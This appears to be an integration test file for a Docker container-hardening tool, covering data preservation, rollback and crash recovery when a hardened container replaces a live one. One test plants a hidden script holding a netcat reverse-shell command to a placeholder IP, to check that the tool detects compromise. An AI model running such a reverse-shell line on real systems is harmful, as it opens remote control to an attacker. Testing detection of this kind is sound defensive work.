import { describe, expect, onTestFinished, test } from 'vitest';
import { docker, startContainer, type TestContainer } from '../../test/support/engine.ts';
import { temporaryState } from '../../test/support/guard.ts';
import { plannedMount, planOf, readOnlyWith } from '../../test/support/hardening-plans.ts';
import { type HardeningPlan, plannedVolumeName } from '../contract/index.ts';
import { run } from '../host/index.ts';
import { createLogger, packageRoot, systemClock } from '../kernel/index.ts';
import { type ApplyOptions, applyPlan } from './apply-plan.ts';
import { type Context, createContext } from './context.ts';
import { rememberedRefusals } from './refused-writes.ts';

/** Writes its data once, then where it is told to, and says when it cannot. */
const WRITES =
  'mkdir -p /data /run; trap exit TERM; while :; do date > /run/beat; [ ! -e /data/wander ] || touch /wandered; sleep 0.2; done';
const SERVICE = { command: ['sh', '-c', WRITES], options: ['--label', 'pristine.allow=/data/**'] };

/** A service with data, a plan for it, and what is left of both removed at the end. */
async function subject(options: readonly string[] = SERVICE.options) {
  const stack = new AsyncDisposableStack();
  onTestFinished(() => stack.disposeAsync());
  const state = stack.use(temporaryState());
  const context = createContext({
    stateDirectory: state.path,
    ...{ env: process.env, logger: createLogger('error'), clock: systemClock },
  });
  stack.defer(() => context.close());
  const live = stack.use(await startContainer({ ...SERVICE, options }));
  stack.defer(async () => {
    await run('docker', ['rm', '-f', '-v', live.name]);
    await run('docker', [
      'volume',
      'rm',
      '-f',
      `${live.name.replaceAll('-', '_2d')}-data`,
      `${live.name}-data`,
    ]);
  });
  await live.sh('echo precious > /data/file; ln -s file /data/link; chmod 640 /data/file');
  const container = await (await context.engine()).inspect(live.id);
  const { id, name, image, imageId } = container;
  const plan = planOf(
    { id, name, image, imageId },
    readOnlyWith([plannedMount('/data', 'volume'), plannedMount('/run', 'tmpfs')]),
  );
  return { state: state.path, context, live, plan };
}

function apply(
  context: Context,
  { name }: TestContainer,
  plan: HardeningPlan,
  check?: ApplyOptions['check'],
) {
  const signal = new AbortController().signal;
  return applyPlan(context, name, plan, { onProgress: () => {}, signal, ...(check && { check }) });
}

const read = (name: string, format: string) => docker('inspect', '-f', format, name);
const volumesOf = (name: string) =>
  docker('volume', 'ls', '-q', '--filter', `label=pristine.volume-of=${name}`);

test('a hardened container takes the place, with the data that the original had in its root', async () => {
  const { context, live, plan } = await subject();
  const asked: string[] = [];
  const applied = await apply(context, live, plan, async ({ id }) => void asked.push(id));
  expect(applied).toEqual({ id: asked[0], name: live.name, plan: plan.id, replaced: live.id });
  expect(await read(live.name, '{{.Id}} {{.State.Running}} {{.HostConfig.ReadonlyRootfs}}')).toBe(
    `${applied.id} true true`,
  );
  expect(await read(live.name, '{{index .Config.Labels "pristine.plan"}}')).toBe(plan.id);
  const inside = 'cat /data/file; readlink /data/link; stat -c %a /data/file; touch /x 2>&1';
  expect(await docker('exec', live.name, 'sh', '-c', `${inside}; true`)).toBe(
    'precious\nfile\n640\ntouch: /x: Read-only file system',
  );
  await expect(docker('inspect', live.id)).rejects.toThrow(/no such/i);
});

describe('the original has its place again, and nothing is left of the attempt', () => {
  test('when the check fails, with what was refused meanwhile', async () => {
    const { context, live, plan } = await subject();
    const failing = async ({ id }: { id: string }) => {
      await docker('exec', id, 'sh', '-c', 'touch /data/wander; sleep 1');
      throw new Error('the page is not served');
    };
    await expect(apply(context, live, plan, failing)).rejects.toMatchObject({
      code: 'E_UNHEALTHY',
      message: expect.stringMatching(/serves as before.*the page is not served.*\/wandered/),
      next: expect.stringContaining('--amend'),
    });
    expect(await read(live.name, '{{.Id}} {{.State.Running}}')).toBe(`${live.id} true`);
    expect(await live.sh('cat /data/file; ls /data')).toBe('precious\nfile\nlink');
    expect(await volumesOf(live.name)).toBe('');
    expect((await rememberedRefusals(context, live)).map(({ path }) => path)).toEqual(['/wandered']);
    expect(await (await context.store()).unfinished()).toEqual([]);
  });

  test('when it does not run so at all, and its plan can be tried again', async () => {
    const { context, live, plan } = await subject();
    // A shell that cannot start another program.
    const configuration = { ...plan.configuration, pidsLimit: 1 };
    const broken = { ...plan, id: `${plan.id}x`, configuration };
    await expect(apply(context, live, broken)).rejects.toMatchObject({ code: 'E_UNHEALTHY' });
    expect(await read(live.name, '{{.Id}} {{.State.Running}}')).toBe(`${live.id} true`);
    expect((await apply(context, live, plan)).replaced).toBe(live.id);
  });
});

describe('nothing is begun', () => {
  test('when a file would be lost that the plan has no place for, or evidence', async () => {
    const { context, live, plan } = await subject();
    await live.sh('mkdir /notes; echo x > /notes/n.txt');
    await expect(apply(context, live, plan)).rejects.toMatchObject({
      code: 'E_NOT_SUPPORTED',
      message: expect.stringContaining('/notes/n.txt'),
    });
    await live.sh("printf '#!/bin/sh\nnc -e sh 1.2.3.4 4444' > /run/.x; chmod +x /run/.x; rm -r /notes");
    await expect(apply(context, live, plan)).rejects.toMatchObject({ code: 'E_COMPROMISED' });
    expect(await read(live.name, '{{.Id}} {{.State.Running}}')).toBe(`${live.id} true`);
  });

  test('with a container that could not come back, or a plan for another image', async () => {
    const { context, live, plan } = await subject([...SERVICE.options, '--rm']);
    await expect(apply(context, live, plan)).rejects.toMatchObject({ code: 'E_NOT_SUPPORTED' });
    const other = { ...plan, container: { ...plan.container, imageId: 'sha256:0' } };
    await expect(apply(context, live, other)).rejects.toMatchObject({ code: 'E_USAGE' });
    expect(await read(live.id, '{{.State.Running}}')).toBe('true');
  });

  test('with a volume of that name which holds something already: it is left as it was', async () => {
    const { context, live, plan } = await subject();
    const name = plannedVolumeName(live.name, '/data');
    await docker('volume', 'create', name, '--label', `pristine.volume-of=${live.name}`);
    const inVolume = (script: string) =>
      docker(
        'run',
        '--rm',
        '--network',
        'none',
        '-v',
        `${name}:/v`,
        'pristine-test-busybox:1',
        'sh',
        '-c',
        script,
      );
    await inVolume('echo older > /v/older');
    await new Promise((resolve) => setTimeout(resolve, 1100));
    await expect(apply(context, live, plan)).rejects.toMatchObject({
      message: expect.stringContaining('was there before'),
    });
    expect(await inVolume('cat /v/older')).toBe('older');
    expect(await live.sh('cat /data/file')).toBe('precious');
    expect(await read(live.name, '{{.Id}} {{.State.Running}}')).toBe(`${live.id} true`);
    await docker('volume', 'rm', name);
  });
});

/** Applies a plan in a process of its own, which kills itself: `hook` is code that does so. */
async function applyAndDie(state: string, name: string, plan: HardeningPlan, hook: string): Promise<void> {
  const agent = `
    import { applyPlan } from '${packageRoot}/src/app/apply-plan.ts';
    import { createContext } from '${packageRoot}/src/app/context.ts';
    import { createLogger, systemClock } from '${packageRoot}/src/kernel/index.ts';
    const [stateDirectory, name, plan] = process.argv.slice(1);
    const context = createContext({ stateDirectory, env: process.env, logger: createLogger('error'), clock: systemClock });
    const die = () => process.kill(process.pid, 'SIGKILL');
    const store = await context.store();
    const options = { onProgress: () => {}, signal: new AbortController().signal };
    ${hook}
    await applyPlan(context, name, JSON.parse(plan), options);`;
  const args = ['--disable-warning=ExperimentalWarning', '--input-type=module', '-e', agent, state, name];
  const { code, stderr } = await run(process.execPath, [...args, JSON.stringify(plan)]);
  expect(code, stderr).not.toBe(0);
  expect(stderr).toMatch(/SIGKILL|^$/);
}

test('a roll-back that was interrupted is carried to its end, and the plan is not tried again by itself', async () => {
  const { context, state, live, plan } = await subject();
  const hook = `
    options.check = () => Promise.reject(new Error('no'));
    const { addTimeline } = store;
    store.addTimeline = (id, line) => (line.text.includes('taken away again') ? die() : addTimeline(id, line));`;
  await applyAndDie(state, live.name, plan, hook);
  expect(await read(live.id, '{{.State.Running}}')).toBe('false');
  await expect(apply(context, live, plan)).rejects.toMatchObject({
    code: 'E_UNHEALTHY',
    message: expect.stringContaining('serves as before'),
  });
  expect(await read(live.name, '{{.Id}} {{.State.Running}}')).toBe(`${live.id} true`);
  expect(await (await context.store()).unfinished()).toEqual([]);
  expect((await apply(context, live, plan)).replaced).toBe(live.id);
});

/** Steps, by their intent, before which the process that applies a plan is killed. */
const MOMENTS = ['stop ', 'put a pristine', 'wait until', 'compare its', 'kill and remove'];

test.each(MOMENTS)(
  'after a kill at "%s" one of both serves, with the data, and the other is gone',
  async (at) => {
    const { context, state, live, plan } = await subject();
    await applyAndDie(
      state,
      live.name,
      plan,
      `options.onProgress = (text) => { if (text.startsWith(${JSON.stringify(at)})) die(); };`,
    );
    const applied = await apply(context, live, plan);
    expect(await read(live.name, '{{.Id}} {{.State.Running}}')).toBe(`${applied.id} true`);
    expect(await docker('exec', live.name, 'cat', '/data/file')).toBe('precious');
    await expect(docker('inspect', live.id)).rejects.toThrow(/no such/i);
    expect(await (await context.store()).unfinished()).toEqual([]);
  },
);
